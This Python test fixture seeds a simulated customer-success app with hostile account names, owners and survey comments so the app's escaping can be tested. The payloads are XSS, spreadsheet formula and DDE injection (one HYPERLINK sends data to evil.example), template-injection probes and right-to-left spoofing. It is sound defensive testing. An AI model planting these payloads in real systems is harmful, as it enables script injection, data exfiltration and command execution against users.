"""A small company behind its pages, as several CS managers find it in the morning.

Each manager owns accounts of their own, so that what one does moves nothing in another's lists.
Some accounts carry names, owners and comments that mean harm.
"""

from __future__ import annotations

import secrets
import uuid
from collections.abc import Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import pandas as pd
import yaml
from chromium import site
from demo_files import demo_project
from written_company import END, WrittenCompany, score_company

from npsight.service.serve import prepare
from npsight.simulate import SimulationSettings, simulate
from npsight.store import Store, create_key, open_project_store
from npsight.store.users import User, add_user
from npsight.web.passwords import hashed

MANAGERS = ("Ada Park", "Bo Lind", "Cy Mora", "Dee Roth", "Eve Stone")
ADMIN = "Fay Olsen"
ABSENT = "Gil Noor"
"""Owns two accounts and has no login: theirs are for whoever needs some to themselves."""
PASSWORD = "correct horse battery staple"
FEATURES = [
    {"source": "usage", "measure": "logins", "aggregate": "sum", "windows": 90,
     "driver": "product_use", "label": "logins"},
    {"source": "tickets", "aggregate": "count", "windows": 90, "driver": "support",
     "label": "tickets"},
    {"source": "payments", "measure": "days_late", "aggregate": "mean", "windows": 180,
     "driver": "billing", "label": "lateness of payments", "unit": "days"},
    {"source": "usage", "measure": "errors", "per": "logins", "aggregate": "ratio", "windows": 90,
     "driver": "reliability", "label": "errors per login"},
    {"source": "touches", "aggregate": "count", "windows": 180, "driver": "relationship",
     "label": "contacts"},
    {"source": "accounts", "aggregate": "value", "measure": "plan", "driver": "accounts",
     "label": "plan"},
]  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """What people with bad intent give themselves as name and owner, and write as comments."""

    name: str
    owner: str
    comment: str


SCRIPT = "<script>window.harmed=1;alert(1)</script>"
IMAGE = '"><img src=x onerror="window.harmed=1;alert(1)">'
HOSTILE = (
    Hostile(f"Script {SCRIPT}", f"Owner {SCRIPT}", f"A comment {SCRIPT}"),
    Hostile(f"Image {IMAGE}", f"Owner {IMAGE}", f"A comment {IMAGE}"),
    Hostile('=HYPERLINK("https://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)"),
    Hostile("Right \u202egnp.exe\u2066 to left", "\u202eRenwo", "\u202eatad rehto"),
    Hostile("Long " + "x" * 10_000, "Owner " + "y" * 10_000, "z" * 10_000),
    Hostile("🦄🧨👩‍👩‍👧‍👦 GmbH", "🧑🏽‍🚀", "😡" * 50),
    Hostile("{{ 7*7 }}${7*7}{% raw %}<%= 7*7 %>", "{{ config }}", "{{ ''.__class__ }}"),
    Hostile("javascript:alert(1)", "</title></textarea></style>", "--></svg><svg onload=alert(1)>"),
)


@dataclass(frozen=True)
class Served:
    """The address of pages and API, a key for the API, and the project behind them."""

    address: str
    key: str
    company: WrittenCompany
    store: Store


def login_of(name: str) -> str:
    """What somebody signs in with: their first name."""
    return name.split()[0].lower()


def morning_company(folder: Path) -> WrittenCompany:
    """Simulate it, score it, and give everybody a login."""
    company = WrittenCompany(folder)
    start = END.date() - timedelta(days=300)
    settings = SimulationSettings(70, days=300, seed=4, start=start, truth=False)
    simulate(company.data, settings)
    _cast(company)
    demo_project(folder, company.data)
    content = yaml.safe_load(company.config.read_text(encoding="utf-8"))
    content["features"] = FEATURES
    # Contacts of the simulated past would have accounts step back before anybody calls.
    content.pop("worklist", None)
    content["worklist"] = {"capacity": 6}
    content["pages"] = {"currency": "€"}
    company.config.write_text(yaml.safe_dump(content, sort_keys=False), encoding="utf-8")
    score_company(company)
    _people(company)
    return company


def _cast(company: WrittenCompany) -> None:
    """Deal the accounts out to the managers, and some to people who mean harm."""
    file = company.data / "accounts.csv"
    accounts = pd.read_csv(file, dtype=str, keep_default_na=False)
    keys = list(accounts["account_id"].drop_duplicates())
    # Three neighbours each: everybody has a passive account that slides.
    owners = {key: MANAGERS[place // 3 % len(MANAGERS)] for place, key in enumerate(keys)}
    accounts["owner"] = accounts["account_id"].map(owners)
    answers_file = company.data / "surveys.csv"
    answers = pd.read_csv(answers_file, dtype=str, keep_default_na=False)
    ended = pd.read_csv(company.data / "subscriptions.csv", dtype=str, keep_default_na=False)
    gone = set(ended.loc[ended["ended_at"] != "", "account_id"])
    spoke = set(answers.loc[answers["score"] != "", "account_id"])
    answered = [key for key in keys if key in spoke - gone]
    for key, hostile in zip(reversed(answered), HOSTILE, strict=False):
        mine = accounts["account_id"] == key
        accounts.loc[mine, "name"] = hostile.name
        accounts.loc[mine, "owner"] = hostile.owner
        said = (answers["account_id"] == key) & (answers["score"] != "")
        answers.loc[said, "comment"] = hostile.comment
    rest = answered[: -len(HOSTILE)][-2:]
    accounts.loc[accounts["account_id"].isin(rest), "owner"] = ABSENT
    accounts.to_csv(file, index=False)
    answers.to_csv(answers_file, index=False)


def _people(company: WrittenCompany) -> None:
    project, kept = company.project, hashed(PASSWORD)
    with closing(open_project_store(project)) as store:
        for name in MANAGERS:
            user = User(uuid.uuid4().hex, login_of(name), name, "csm", name)
            add_user(store, project.name, user, kept, "a test")
        admin = User(uuid.uuid4().hex, login_of(ADMIN), ADMIN, "admin", None)
        add_user(store, project.name, admin, kept, "a test")


@contextmanager
def serving(company: WrittenCompany) -> Iterator[Served]:
    """Pages and API in a process of their own, as `npsight serve` runs them."""
    prepare(company.project)
    with site(company.config) as made:
        key, _ = create_key(made.store, made.project, secrets.token_hex(4), ["write"])
        yield Served(made.address, key, company, made.store)


def accounts_owned_by(served: Served, owner: str) -> list[str]:
    """The keys of their accounts that are scored."""
    run = served.store.latest_run(served.company.project.name)
    return [row.account for row in served.store.scores(run.id) if row.owner == owner]


def account_of(served: Served, hostile: Hostile) -> str:
    """The key of the account that calls itself so."""
    run = served.store.latest_run(served.company.project.name)
    (found,) = [row.account for row in served.store.scores(run.id) if row.name == hostile.name]
    return found
